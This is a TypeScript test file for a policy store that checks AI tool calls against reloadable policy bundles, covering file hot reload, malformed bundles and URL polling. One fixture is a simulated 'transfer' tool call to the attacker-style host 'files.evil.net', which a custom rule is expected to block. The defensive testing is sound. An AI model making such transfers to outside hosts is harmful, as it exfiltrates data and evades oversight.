import { copyFile, mkdtemp, rm, writeFile, readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PolicyStore, type PolicyReloadEvent } from "../../src/policy/policy-store";
import { call, replyWith } from "./policy-input-builders";

const DEFAULT_BUNDLE = join(__dirname, "../../policies/build/bundle.tar.gz");
const WITH_TRANSFER_RULE = join(__dirname, "fixtures/with-transfer-domain.tar.gz");
const MALFORMED = join(__dirname, "fixtures/malformed-decision.tar.gz");

/** A reply calling `transfer` to a host outside example.com: allowed by default, blocked by the custom rule. */
const transfer = replyWith([call("call_t", "transfer", [], { arguments: { host: "files.evil.net" } })]);

async function until(condition: () => boolean, what: string, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe("PolicyStore", () => {
  let dir: string;
  let store: PolicyStore | null = null;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "claimcheck-policy-"));
  });
  afterEach(async () => {
    await store?.close();
    store = null;
    await rm(dir, { recursive: true, force: true });
  });

  test("refuses to start on a bundle that does not load, saying which and why", async () => {
    const path = join(dir, "bundle.tar.gz");
    await writeFile(path, "not a tarball");
    await expect(PolicyStore.load({ bundlePath: path, watch: false })).rejects.toThrow(/bundle\.tar\.gz cannot be loaded/);
  });

  test("a decision that is not a valid PolicyDecision is an error, not a verdict", async () => {
    store = await PolicyStore.load({ bundlePath: MALFORMED, watch: false });
    const result = store.evaluate(transfer);
    expect(result).toMatchObject({ ok: false, revision: "fixture-malformed", error: expect.stringMatching(/malformed.*verdict/) });
  });

  test("hot reload: a broken bundle is rejected and the old policy keeps serving; a new valid one is enforced", async () => {
    const path = join(dir, "bundle.tar.gz");
    await copyFile(DEFAULT_BUNDLE, path);
    const events: PolicyReloadEvent[] = [];
    store = await PolicyStore.load({ bundlePath: path, watchDebounceMs: 50, onReload: (e) => events.push(e) });
    const original = store.revision();
    expect(store.evaluate(transfer)).toMatchObject({ ok: true, decision: { verdict: "allow" } });

    await writeFile(path, "garbage, not a bundle");
    await until(() => events.length === 1, "the rejected reload");
    expect(events[0]).toMatchObject({ ok: false, revision: original, source: "file", error: expect.any(String) });
    expect(store.revision()).toBe(original);
    expect(store.ready()).toBe(true);

    await writeFile(path, await readFile(WITH_TRANSFER_RULE));
    await until(() => events.length === 2, "the accepted reload");
    expect(events[1]).toMatchObject({ ok: true, revision: "fixture-transfer-domain", source: "file" });
    const after = store.evaluate(transfer);
    expect(after).toMatchObject({ ok: true, revision: "fixture-transfer-domain", decision: { verdict: "block" } });
    expect(after.ok && after.decision.violations[0]).toMatchObject({ rule: "transfer_domain", tool_call_ids: ["call_t"] });
  });

  test("reload() re-reads the file and reports the outcome", async () => {
    const path = join(dir, "bundle.tar.gz");
    await copyFile(DEFAULT_BUNDLE, path);
    store = await PolicyStore.load({ bundlePath: path, watch: false });
    await copyFile(MALFORMED, path);
    await expect(store.reload()).resolves.toEqual({ ok: true, revision: "fixture-malformed" });
    await writeFile(path, "broken");
    await expect(store.reload()).resolves.toMatchObject({ ok: false, revision: "fixture-malformed", error: expect.any(String) });
  });

  describe("bundle URL polling", () => {
    let server: Server;
    let url: string;
    let served: { body: Buffer; etag: string };
    const requests: Array<string | undefined> = [];
    beforeEach(async () => {
      requests.length = 0;
      served = { body: await readFile(WITH_TRANSFER_RULE), etag: '"v1"' };
      server = createServer((req, res) => {
        requests.push(req.headers["if-none-match"]);
        if (req.headers["if-none-match"] === served.etag) return res.writeHead(304).end();
        res.writeHead(200, { etag: served.etag, "content-type": "application/gzip" }).end(served.body);
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/bundles/claimcheck.tar.gz`;
    });
    afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

    test("loads the URL bundle at start, then sends If-None-Match and keeps it on 304", async () => {
      store = await PolicyStore.load({ bundlePath: DEFAULT_BUNDLE, bundleUrl: url, watch: false, pollIntervalMs: 60_000 });
      expect(store.revision()).toBe("fixture-transfer-domain");
      await expect(store.reload()).resolves.toEqual({ ok: true, revision: "fixture-transfer-domain" });
      expect(requests).toEqual([undefined, '"v1"']);
    });

    test("polls on the interval and swaps in a new bundle when the ETag changes", async () => {
      const events: PolicyReloadEvent[] = [];
      store = await PolicyStore.load({ bundlePath: DEFAULT_BUNDLE, bundleUrl: url, watch: false, pollIntervalMs: 30, onReload: (e) => events.push(e) });
      served = { body: await readFile(DEFAULT_BUNDLE), etag: '"v2"' };
      await until(() => events.length === 2, "the polled reload");
      expect(events[1]).toMatchObject({ ok: true, source: "url", revision: expect.stringMatching(/^src-/) });
    });

    test("a broken URL bundle is rejected once and the policy in force stays", async () => {
      served = { body: Buffer.from("garbage"), etag: '"bad"' };
      const events: PolicyReloadEvent[] = [];
      store = await PolicyStore.load({ bundlePath: DEFAULT_BUNDLE, bundleUrl: url, watch: false, onReload: (e) => events.push(e) });
      expect(events).toEqual([expect.objectContaining({ ok: false, source: "url" })]);
      expect(store.revision()).toMatch(/^src-/);
      await expect(store.reload()).resolves.toMatchObject({ ok: true, revision: store.revision() }); // 304: not refetched
    });

    test("an unreachable URL times out and leaves the file's policy in force", async () => {
      const hanging = createServer(() => undefined); // never answers
      await new Promise<void>((resolve) => hanging.listen(0, "127.0.0.1", resolve));
      const slowUrl = `http://127.0.0.1:${(hanging.address() as AddressInfo).port}/b.tar.gz`;
      try {
        store = await PolicyStore.load({ bundlePath: DEFAULT_BUNDLE, bundleUrl: slowUrl, watch: false, fetchTimeoutMs: 100 });
        expect(store.revision()).toMatch(/^src-/);
        await expect(store.reload()).resolves.toMatchObject({ ok: false, error: expect.stringContaining("timed out after 100 ms") });
      } finally {
        await store?.close();
        store = null;
        hanging.closeAllConnections();
        await new Promise<void>((resolve) => hanging.close(() => resolve()));
      }
    });
  });
});
